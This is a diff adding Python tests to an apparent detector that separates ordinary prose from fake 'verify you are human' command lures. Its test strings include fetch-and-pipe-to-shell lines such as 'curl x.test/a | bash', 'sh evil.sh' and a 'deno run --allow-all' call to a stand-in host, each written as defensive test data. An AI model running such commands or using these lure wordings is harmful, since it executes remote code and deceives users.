@@ -17,3 +17,24 @@ def test_a_command_pushed_down_under_blank_lines_is_still_seen() -> None:
 
 def test_a_package_tool_line_with_a_comment_is_a_command() -> None:
     assert not is_prose("deno run --allow-all https://a.test/c.ts   # confirm you are human")
+
+
+def test_a_sentence_naming_a_pipe_as_words_is_prose() -> None:
+    assert is_prose(
+        "Attackers now tell Linux users to run a wget | sudo bash one-liner from the page."
+    )
+    assert is_prose(
+        "The page copies a PowerShell command; the same kit serves a curl | bash line to Macs."
+    )
+
+
+def test_a_pipe_that_could_fetch_or_feed_more_than_plain_words_is_a_command() -> None:
+    for line in (
+        "Verify you are human by running this now; curl x | bash",  # a program after the ;
+        "Please verify that you are human by running curl x.test/a | bash",  # a host
+        "Please continue the setup described on this page | bash -s -- --fix",  # an option
+        "Please continue the setup described on this page | sh evil.sh",  # a file name
+        "Please continue the setup described on this page | rm all the files",  # no shell
+        "Please continue the setup described on this page | bash $HOME/x",  # a variable
+    ):
+        assert not is_prose(line), line
